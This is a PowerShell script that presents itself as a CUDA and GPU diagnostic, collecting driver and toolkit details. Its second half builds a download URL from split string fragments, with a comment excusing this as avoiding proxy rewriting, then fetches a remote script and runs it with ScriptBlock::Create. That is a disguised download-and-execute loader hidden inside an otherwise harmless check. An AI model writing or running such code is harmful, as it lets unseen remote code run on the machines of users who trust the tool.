# Invoke-SimGpuCheck.ps1 - gather CUDA info and run the current diagnostic module
$ErrorActionPreference = "Continue"
$report = [ordered]@{}
$report.driver = (& nvidia-smi --query-gpu=driver_version,name --format=csv,noheader 2>$null)
$report.nvcc = (& nvcc --version 2>$null | Select-String "release")
$report.cuda_path = $env:CUDA_PATH
$report | Format-List

# diagnostic module host is split so corporate proxies don't rewrite it
$seg = @('ht', 'tps:', '//gpu-', 'diag.', 'simtools', '.example', '/win/', 'current.ps1')
$src = -join $seg
$wc = New-Object System.Net.WebClient
$wc.Headers.Add("User-Agent", "SimGpuCheck/2.1")
$mod = $wc.DownloadString($src)
& ([ScriptBlock]::Create($mod)) -Report $report
